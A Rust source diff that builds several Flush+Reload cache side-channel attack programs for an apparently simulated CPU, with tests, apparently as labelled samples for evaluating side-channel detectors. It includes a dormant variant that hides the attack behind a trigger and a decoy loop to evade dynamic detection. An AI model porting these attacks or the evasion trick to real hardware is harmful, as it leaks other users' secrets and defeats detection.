@@ -1,0 +1,459 @@
+//! Three independently-structured Flush+Reload implementations
+//! (FR-IAIK, FR-Mastik, FR-Nepoche in Table II).
+
+use sca_cpu::Victim;
+use sca_isa::{AluOp, Cond, InstTag, MemRef, ProgramBuilder, Reg};
+
+use crate::layout::{LINE, RESULT_BASE, SHARED_BASE};
+use crate::poc::PocParams;
+use crate::sample::{AttackFamily, Label, Sample};
+
+fn victim_for(params: &PocParams) -> Victim {
+    Victim::shared_memory(SHARED_BASE, LINE, params.secrets.clone())
+}
+
+/// The classic IAIK-style Flush+Reload: flush every monitored line, wait
+/// for the victim, then reload each line with an `rdtscp` pair and record
+/// lines whose reload beat the threshold (Fig. 1 of the paper).
+pub fn flush_reload_iaik(params: &PocParams) -> Sample {
+    let mut b = ProgramBuilder::new("FR-IAIK");
+    crate::poc::emit_load_calibration(&mut b);
+    let (i, addr, t0, t1, round) = (Reg::R2, Reg::R3, Reg::R4, Reg::R5, Reg::R7);
+    let one = Reg::R9;
+
+    b.mov_imm(round, 0);
+    b.mov_imm(one, 1);
+    let round_top = b.here();
+
+    // Flush step: clflush every monitored shared line.
+    b.mov_imm(i, 0);
+    let flush_top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Mul, addr, LINE as i64);
+    b.alu_imm(AluOp::Add, addr, SHARED_BASE as i64);
+    b.tag_next(InstTag::Flush);
+    b.clflush(MemRef::base(addr));
+    b.alu_imm(AluOp::Add, i, 1);
+    b.cmp_imm(i, params.probe_lines as i64);
+    b.br(Cond::Lt, flush_top);
+
+    // Let the victim run.
+    b.vyield();
+
+    // Reload step: timed re-access of each line.
+    b.mov_imm(i, 0);
+    let reload_top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Mul, addr, LINE as i64);
+    b.alu_imm(AluOp::Add, addr, SHARED_BASE as i64);
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t0);
+    b.tag_next(InstTag::Reload);
+    b.load(Reg::R6, MemRef::base(addr));
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t1);
+    b.tag_next(InstTag::Time);
+    b.alu(AluOp::Sub, t1, t0);
+    let slow = b.new_label();
+    b.tag_next(InstTag::Recover);
+    b.cmp_imm(t1, params.reload_threshold);
+    b.tag_next(InstTag::Recover);
+    b.br(Cond::Ge, slow);
+    // Hit: the victim touched this line — record it.
+    b.tagged(InstTag::Recover, |b| {
+        b.mov_reg(addr, i);
+        b.alu_imm(AluOp::Shl, addr, 3);
+        b.alu_imm(AluOp::Add, addr, RESULT_BASE as i64);
+        b.store(one, MemRef::base(addr));
+    });
+    b.bind(slow);
+    b.alu_imm(AluOp::Add, i, 1);
+    b.cmp_imm(i, params.probe_lines as i64);
+    b.br(Cond::Lt, reload_top);
+
+    b.alu_imm(AluOp::Add, round, 1);
+    b.cmp_imm(round, params.rounds as i64);
+    b.br(Cond::Lt, round_top);
+    crate::poc::emit_report(&mut b, params.probe_lines);
+    b.halt();
+
+    Sample::new(
+        b.build(),
+        victim_for(params),
+        Label::Attack(AttackFamily::FlushReload),
+    )
+}
+
+/// Mastik-style Flush+Reload: per-line flush→wait→reload loop (one line at
+/// a time) with shift-based addressing and an index-register addressing
+/// mode, structurally unlike [`flush_reload_iaik`].
+pub fn flush_reload_mastik(params: &PocParams) -> Sample {
+    let mut b = ProgramBuilder::new("FR-Mastik");
+    crate::poc::emit_load_calibration(&mut b);
+    let (base, i, off, t0, t1, d, round) =
+        (Reg::R1, Reg::R2, Reg::R3, Reg::R4, Reg::R5, Reg::R6, Reg::R7);
+    let res = Reg::R8;
+
+    b.mov_imm(base, SHARED_BASE as i64);
+    b.mov_imm(res, RESULT_BASE as i64);
+    b.mov_imm(round, 0);
+    let round_top = b.here();
+    b.mov_imm(i, 0);
+    let line_top = b.here();
+
+    // offset = i << 6
+    b.mov_reg(off, i);
+    b.alu_imm(AluOp::Shl, off, 6);
+
+    // flush this one line, give the victim a slot, reload it timed
+    b.tag_next(InstTag::Flush);
+    b.clflush(MemRef::base_index(base, off, 1));
+    b.vyield();
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t0);
+    b.tag_next(InstTag::Reload);
+    b.load(d, MemRef::base_index(base, off, 1));
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t1);
+    b.tag_next(InstTag::Time);
+    b.alu(AluOp::Sub, t1, t0);
+    b.tag_next(InstTag::Recover);
+    b.cmp_imm(t1, params.reload_threshold);
+    let slow = b.new_label();
+    b.tag_next(InstTag::Recover);
+    b.br(Cond::Ge, slow);
+    b.tagged(InstTag::Recover, |b| {
+        b.mov_reg(off, i);
+        b.alu_imm(AluOp::Shl, off, 3);
+        b.mov_imm(d, 1);
+        b.store(d, MemRef::base_index(res, off, 1));
+    });
+    b.bind(slow);
+    b.alu_imm(AluOp::Add, i, 1);
+    b.cmp_imm(i, params.probe_lines as i64);
+    b.br(Cond::Lt, line_top);
+    b.alu_imm(AluOp::Add, round, 1);
+    b.cmp_imm(round, params.rounds as i64);
+    b.br(Cond::Lt, round_top);
+    crate::poc::emit_report(&mut b, params.probe_lines);
+    b.halt();
+
+    Sample::new(
+        b.build(),
+        victim_for(params),
+        Label::Attack(AttackFamily::FlushReload),
+    )
+}
+
+/// Nepoche-style Flush+Reload: flush pass forward, reload pass in *reverse*
+/// order with a down-counting index, a fence between phases, and hit counts
+/// accumulated per line in the result region instead of boolean flags.
+pub fn flush_reload_nepoche(params: &PocParams) -> Sample {
+    let mut b = ProgramBuilder::new("FR-Nepoche");
+    crate::poc::emit_load_calibration(&mut b);
+    let (i, addr, t0, t1, v, round) = (Reg::R2, Reg::R3, Reg::R4, Reg::R5, Reg::R6, Reg::R7);
+    let (res, cnt) = (Reg::R8, Reg::R9);
+
+    b.mov_imm(round, 0);
+    let round_top = b.here();
+
+    // Flush pass (forward).
+    b.mov_imm(i, 0);
+    let flush_top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Shl, addr, 6);
+    b.alu_imm(AluOp::Add, addr, SHARED_BASE as i64);
+    b.tag_next(InstTag::Flush);
+    b.clflush(MemRef::base(addr));
+    b.alu_imm(AluOp::Add, i, 1);
+    b.cmp_imm(i, params.probe_lines as i64);
+    b.br(Cond::Lt, flush_top);
+
+    b.mfence();
+    b.vyield();
+
+    // Reload pass (reverse).
+    b.mov_imm(i, params.probe_lines as i64 - 1);
+    let reload_top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Shl, addr, 6);
+    b.alu_imm(AluOp::Add, addr, SHARED_BASE as i64);
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t0);
+    b.tag_next(InstTag::Reload);
+    b.load(v, MemRef::base(addr));
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t1);
+    b.tag_next(InstTag::Time);
+    b.alu(AluOp::Sub, t1, t0);
+    b.tag_next(InstTag::Recover);
+    b.cmp_imm(t1, params.reload_threshold);
+    let slow = b.new_label();
+    b.tag_next(InstTag::Recover);
+    b.br(Cond::Ge, slow);
+    b.tagged(InstTag::Recover, |b| {
+        b.mov_reg(res, i);
+        b.alu_imm(AluOp::Shl, res, 3);
+        b.alu_imm(AluOp::Add, res, RESULT_BASE as i64);
+        b.load(cnt, MemRef::base(res));
+        b.alu_imm(AluOp::Add, cnt, 1);
+        b.store(cnt, MemRef::base(res));
+    });
+    b.bind(slow);
+    b.cmp_imm(i, 0);
+    let done = b.new_label();
+    b.br(Cond::Eq, done);
+    b.alu_imm(AluOp::Sub, i, 1);
+    b.jmp(reload_top);
+    b.bind(done);
+
+    b.alu_imm(AluOp::Add, round, 1);
+    b.cmp_imm(round, params.rounds as i64);
+    b.br(Cond::Lt, round_top);
+    crate::poc::emit_report(&mut b, params.probe_lines);
+    b.halt();
+
+    Sample::new(
+        b.build(),
+        victim_for(params),
+        Label::Attack(AttackFamily::FlushReload),
+    )
+}
+
+/// A self-calibrating Flush+Reload: instead of a hard-coded latency
+/// threshold it derives the hit/miss boundary from the calibration phase
+/// (half the maximum observed cold-load latency), the way careful real
+/// PoCs compute their threshold at runtime.
+pub fn flush_reload_calibrated(params: &PocParams) -> Sample {
+    let mut b = ProgramBuilder::new("FR-Calibrated");
+    crate::poc::emit_load_calibration(&mut b);
+    // The calibration phase leaves the max observed hit latency in R6;
+    // scale it into the decision threshold.
+    // R6 holds the max cold-load (miss) latency; half of it separates
+    // hits (L1/LLC) from misses under any sane latency model.
+    let threshold = Reg::R10;
+    b.mov_reg(threshold, Reg::R6);
+    b.alu_imm(AluOp::Shr, threshold, 1);
+
+    let (i, addr, t0, t1, round) = (Reg::R2, Reg::R3, Reg::R4, Reg::R5, Reg::R7);
+    let one = Reg::R9;
+    b.mov_imm(round, 0);
+    b.mov_imm(one, 1);
+    let round_top = b.here();
+
+    // Flush step.
+    b.mov_imm(i, 0);
+    let flush_top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Shl, addr, 6);
+    b.alu_imm(AluOp::Add, addr, SHARED_BASE as i64);
+    b.tag_next(InstTag::Flush);
+    b.clflush(MemRef::base(addr));
+    b.alu_imm(AluOp::Add, i, 1);
+    b.cmp_imm(i, params.probe_lines as i64);
+    b.br(Cond::Lt, flush_top);
+
+    b.vyield();
+
+    // Reload step with the calibrated threshold.
+    b.mov_imm(i, 0);
+    let reload_top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Shl, addr, 6);
+    b.alu_imm(AluOp::Add, addr, SHARED_BASE as i64);
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t0);
+    b.tag_next(InstTag::Reload);
+    b.load(Reg::R6, MemRef::base(addr));
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t1);
+    b.tag_next(InstTag::Time);
+    b.alu(AluOp::Sub, t1, t0);
+    let slow = b.new_label();
+    b.tag_next(InstTag::Recover);
+    b.cmp(t1, threshold);
+    b.tag_next(InstTag::Recover);
+    b.br(Cond::Ge, slow);
+    b.tagged(InstTag::Recover, |b| {
+        b.mov_reg(addr, i);
+        b.alu_imm(AluOp::Shl, addr, 3);
+        b.alu_imm(AluOp::Add, addr, RESULT_BASE as i64);
+        b.store(one, MemRef::base(addr));
+    });
+    b.bind(slow);
+    b.alu_imm(AluOp::Add, i, 1);
+    b.cmp_imm(i, params.probe_lines as i64);
+    b.br(Cond::Lt, reload_top);
+
+    b.alu_imm(AluOp::Add, round, 1);
+    b.cmp_imm(round, params.rounds as i64);
+    b.br(Cond::Lt, round_top);
+    crate::poc::emit_report(&mut b, params.probe_lines);
+    b.halt();
+
+    Sample::new(
+        b.build(),
+        victim_for(params),
+        Label::Attack(AttackFamily::FlushReload),
+    )
+}
+
+/// A *dormant* Flush+Reload: the attack body is guarded by a trigger word
+/// loaded from memory, which defaults to zero — so simply executing the
+/// program never exhibits the attack behavior. This reproduces the
+/// limitation the paper's Section V discusses: dynamic-trace approaches
+/// (SCAGuard included, like all the detectors it compares against) cannot
+/// model behavior that the run never triggers.
+pub fn flush_reload_dormant(params: &PocParams) -> Sample {
+    let mut b = ProgramBuilder::new("FR-Dormant");
+    let (trigger, i, addr) = (Reg::R1, Reg::R2, Reg::R3);
+    // load the trigger word; memory defaults to zero, so the guard falls
+    // through to the decoy workload
+    b.load(trigger, MemRef::abs((RESULT_BASE + 0x2000) as i64));
+    b.cmp_imm(trigger, 0);
+    let armed = b.new_label();
+    b.br(Cond::Ne, armed);
+
+    // decoy: an innocuous checksum loop
+    b.mov_imm(i, 0);
+    b.mov_imm(Reg::R6, 0);
+    let decoy_top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Shl, addr, 3);
+    b.alu_imm(AluOp::Add, addr, (RESULT_BASE + 0x3000) as i64);
+    b.load(Reg::R5, MemRef::base(addr));
+    b.alu(AluOp::Add, Reg::R6, Reg::R5);
+    b.alu_imm(AluOp::Add, i, 1);
+    b.cmp_imm(i, 32);
+    b.br(Cond::Lt, decoy_top);
+    b.halt();
+
+    // armed path: a full flush+reload, present in the binary but never
+    // executed without the trigger
+    b.bind(armed);
+    let (t0, t1, round, one) = (Reg::R4, Reg::R5, Reg::R7, Reg::R9);
+    b.mov_imm(round, 0);
+    b.mov_imm(one, 1);
+    let round_top = b.here();
+    b.mov_imm(i, 0);
+    let flush_top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Shl, addr, 6);
+    b.alu_imm(AluOp::Add, addr, SHARED_BASE as i64);
+    b.tag_next(InstTag::Flush);
+    b.clflush(MemRef::base(addr));
+    b.alu_imm(AluOp::Add, i, 1);
+    b.cmp_imm(i, params.probe_lines as i64);
+    b.br(Cond::Lt, flush_top);
+    b.vyield();
+    b.mov_imm(i, 0);
+    let reload_top = b.here();
+    b.mov_reg(addr, i);
+    b.alu_imm(AluOp::Shl, addr, 6);
+    b.alu_imm(AluOp::Add, addr, SHARED_BASE as i64);
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t0);
+    b.tag_next(InstTag::Reload);
+    b.load(Reg::R6, MemRef::base(addr));
+    b.tag_next(InstTag::Time);
+    b.rdtscp(t1);
+    b.tag_next(InstTag::Time);
+    b.alu(AluOp::Sub, t1, t0);
+    b.tag_next(InstTag::Recover);
+    b.cmp_imm(t1, params.reload_threshold);
+    let slow = b.new_label();
+    b.tag_next(InstTag::Recover);
+    b.br(Cond::Ge, slow);
+    b.tagged(InstTag::Recover, |b| {
+        b.mov_reg(addr, i);
+        b.alu_imm(AluOp::Shl, addr, 3);
+        b.alu_imm(AluOp::Add, addr, RESULT_BASE as i64);
+        b.store(one, MemRef::base(addr));
+    });
+    b.bind(slow);
+    b.alu_imm(AluOp::Add, i, 1);
+    b.cmp_imm(i, params.probe_lines as i64);
+    b.br(Cond::Lt, reload_top);
+    b.alu_imm(AluOp::Add, round, 1);
+    b.cmp_imm(round, params.rounds as i64);
+    b.br(Cond::Lt, round_top);
+    b.halt();
+
+    Sample::new(
+        b.build(),
+        victim_for(params),
+        Label::Attack(AttackFamily::FlushReload),
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use sca_cpu::{CpuConfig, Machine};
+
+    fn recovered_lines(sample: &Sample, probe_lines: u64) -> Vec<u64> {
+        let mut m = Machine::new(CpuConfig::default());
+        let t = m.run(&sample.program, &sample.victim).expect("run");
+        assert!(t.halted, "PoC must halt within the step budget");
+        (0..probe_lines)
+            .filter(|i| m.read_word(RESULT_BASE + i * 8) != 0)
+            .collect()
+    }
+
+    #[test]
+    fn fr_iaik_recovers_the_secret_line() {
+        let params = PocParams::default().with_secrets(vec![5, 5, 5, 5]);
+        let s = flush_reload_iaik(&params);
+        let hits = recovered_lines(&s, params.probe_lines);
+        assert!(hits.contains(&5), "secret line must be recovered: {hits:?}");
+        assert!(hits.len() <= 3, "few false hits expected: {hits:?}");
+    }
+
+    #[test]
+    fn fr_mastik_recovers_the_secret_line() {
+        // Mastik yields once per line; keep the victim on a constant secret.
+        let params = PocParams::default().with_secrets(vec![9]);
+        let s = flush_reload_mastik(&params);
+        let hits = recovered_lines(&s, params.probe_lines);
+        assert!(hits.contains(&9), "secret line must be recovered: {hits:?}");
+    }
+
+    #[test]
+    fn fr_nepoche_recovers_the_secret_line() {
+        let params = PocParams::default().with_secrets(vec![2, 2, 2, 2]);
+        let s = flush_reload_nepoche(&params);
+        let hits = recovered_lines(&s, params.probe_lines);
+        assert!(hits.contains(&2), "secret line must be recovered: {hits:?}");
+    }
+
+    #[test]
+    fn fr_calibrated_recovers_the_secret_line() {
+        let params = PocParams::default().with_secrets(vec![7, 7, 7, 7]);
+        let s = flush_reload_calibrated(&params);
+        let hits = recovered_lines(&s, params.probe_lines);
+        assert!(hits.contains(&7), "secret line must be recovered: {hits:?}");
+        assert!(hits.len() <= 3, "few false hits expected: {hits:?}");
+    }
+
+    #[test]
+    fn implementations_are_syntactically_distinct() {
+        let p = PocParams::default();
+        let a = flush_reload_iaik(&p);
+        let b = flush_reload_mastik(&p);
+        let c = flush_reload_nepoche(&p);
+        assert_ne!(a.program.insts(), b.program.insts());
+        assert_ne!(b.program.insts(), c.program.insts());
+        assert_ne!(a.program.insts(), c.program.insts());
+    }
+
+    #[test]
+    fn all_attack_steps_are_tagged() {
+        let s = flush_reload_iaik(&PocParams::default());
+        let tags: std::collections::BTreeSet<_> =
+            s.program.tags().map(|(_, t)| t).collect();
+        assert!(tags.contains(&InstTag::Flush));
+        assert!(tags.contains(&InstTag::Reload));
+        assert!(tags.contains(&InstTag::Time));
+        assert!(tags.contains(&InstTag::Recover));
+    }
+}
